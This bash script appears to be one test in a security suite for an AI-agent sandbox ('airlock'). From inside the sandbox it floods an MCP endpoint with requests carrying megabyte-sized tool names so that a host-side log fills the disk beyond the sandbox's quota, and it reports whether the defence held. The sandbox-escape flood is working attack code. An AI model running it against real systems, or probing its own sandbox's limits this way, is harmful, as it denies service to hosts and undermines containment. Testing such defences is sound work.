#!/bin/bash
# Fill the host disk through the MCP call log: denied tools/call requests with ~1 MiB tool names
# and ~1 MiB arguments over keep-alive connections for 25 s. The log lives in the sandbox state dir on
# the host, outside the sandbox's `disk` quota. Got through if the log grows > 200 MiB in 25 s.
source "$(dirname "$0")/lib.sh"
write_mcp_hcl ''
write_sandbox 'disk = "1GiB"
  mcp "atk" { tools = ["echo"] }'
up || die "up failed"
D="$AIRLOCK_HOME/sandboxes/$SB"
s0=$(du -sb "$D" | cut -f1)
timeout 40 airlock exec "$SB" -- /usr/bin/python3 -c "$CLIENT
import threading, time
sid,_,_=init()
name='N'*(1000*1024); body=json.dumps({'jsonrpc':'2.0','id':1,'method':'tools/call','params':{'name':name,'arguments':{}}})
small=json.dumps({'jsonrpc':'2.0','id':1,'method':'tools/call','params':{'name':'x'*200,'arguments':{'a':'b'*1000}}})
end=time.time()+25; cnt=[0]
def run(b):
    c=http.client.HTTPConnection('127.0.0.1',8551,timeout=15)
    while time.time()<end:
        c.request('POST','/mcp/atk',body=b,headers={'Content-Type':'application/json','Accept':'application/json, text/event-stream','Mcp-Session-Id':sid}); c.getresponse().read(); cnt[0]+=1
ths=[threading.Thread(target=run,args=(body if i<2 else small,)) for i in range(6)]; [x.start() for x in ths]; [x.join() for x in ths]
print('requests', cnt[0])
" 2>&1 | tail -2
s1=$(du -sb "$D" | cut -f1); grow=$(( (s1-s0)/1024/1024 ))
echo "state dir grew by ${grow} MiB"; du -ab "$D" | sort -n | tail -3
[ "$grow" -gt 200 ] && gotthrough
defended
